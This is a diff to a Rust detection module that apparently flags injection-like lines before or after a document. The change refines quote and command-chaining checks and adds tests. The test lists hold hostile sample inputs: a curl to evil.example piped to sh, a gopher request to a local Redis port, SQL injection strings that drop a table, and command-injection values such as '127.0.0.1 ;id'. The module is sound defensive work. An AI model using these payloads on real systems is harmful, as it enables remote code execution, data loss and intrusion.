@@ -1,7 +1,7 @@
 //! What stands around a document goes on with its first line and from its last: lines that say nothing, before or behind, would
 //! hide what leaves a query, a command or a head. What acts by itself, such as a program's first line, documents have too.
 
-use super::bytes::{between, find_pair, from, is_blank, starts_with};
+use super::bytes::{between, find_pair, from, is_blank, low, positions, skip_blank, starts_with, word_len};
 use super::effort::Effort;
 use super::{Categories, Engine, Finding, Kind, Listener, profile};
 
@@ -51,20 +51,39 @@ fn goes_on(line: &[u8], rule: &str) -> bool {
     }
 }
 
+/// Whether a line closes a quote that it did not open: one of either kind is left over, or the first closes what the line
+/// begins with (`x'; drop table users#'`). Between letters it is an apostrophe.
 fn leaves_quote(line: &[u8]) -> bool {
-    [b'\'', b'"']
-        .iter()
-        .any(|quote| line.iter().filter(|b| *b == quote).count() % 2 == 1)
+    let letter = |at: Option<usize>| {
+        at.and_then(|at| line.get(at))
+            .is_some_and(|b| b.is_ascii_alphabetic() || *b >= 0x80)
+    };
+    let quotes =
+        |quote: u8| positions(line, quote).filter(move |at| !(letter(at.checked_sub(1)) && letter(at.checked_add(1))));
+    let begun = word_len(line, 0);
+    let closes = matches!(low(line, begun), b'\'' | b'"')
+        && matches!(low(line, begun + 1), b')' | b';' | b' ' | b'\t')
+        && begun > 0;
+    closes || [b'\'', b'"'].iter().any(|quote| quotes(*quote).count() % 2 == 1)
 }
 
-/// Whether a line is what an argument goes on with, and no command of a script: the separator stands before any blank.
+/// Whether a line is what an argument goes on with, and no command of a script nor words with marks between: a separator
+/// stands before any blank, or behind what is no word.
 fn is_chained(line: &[u8]) -> bool {
     let end = line.iter().position(|b| is_blank(*b)).unwrap_or(line.len());
     let word = between(line, 0, end);
-    let separates = word.iter().any(|b| matches!(b, b';' | b'&' | b'|' | b'`'));
+    // `| test | x |`: a row of a table.
+    let row = word == b"|" && line.ends_with(b"|");
+    let separates = word.iter().any(|b| matches!(b, b';' | b'&' | b'|')) && word.is_ascii();
+    // `Use:`cat``: a span of code, behind a letter of another script as well.
+    let quotes = positions(word, b'`').count();
+    let quoted = word.first() == Some(&b'`') || quotes % 2 == 1;
     // `NOW=$(date)` is a script's.
     let substitutes = find_pair(word, 0, *b"$(").is_some_and(|at| at == 0 || word.get(at - 1) != Some(&b'='));
-    separates || substitutes
+    // `127.0.0.1 ;id`: an address or a number is no command.
+    let argument = word.iter().all(|b| b.is_ascii_digit() || *b == b'.')
+        && matches!(low(line, skip_blank(line, end)), b';' | b'&' | b'|');
+    !row && (separates || quoted || substitutes || argument)
 }
 
 #[cfg(test)]
@@ -114,6 +133,10 @@ mod tests {
             "x$(sleep 5)",
             "x.jpg;curl evil.example|sh",
             "Gopher://127.0.0.1:6379/_x",
+            "x'; drop table users#'",
+            "x' order by 5#'",
+            "127.0.0.1 ;id",
+            "127.0.0.1 && whoami",
             &long,
         ] {
             let text = format!("{line}{}", document());
@@ -132,6 +155,11 @@ mod tests {
             "NOW=$(date)",
             "cd /tmp && ls",
             "exit 0",
+            "| test | x | x |",
+            "用来替代`less`或`more`。",
+            "Use:`cat`",
+            "Let's call sleep(5) and now() here",
+            "It's sleep(5) that hangs",
         ] {
             for text in [format!("{line}{}", document()), format!("{}{line}", document())] {
                 assert!(!is_found(&engine, &text), "{text}");
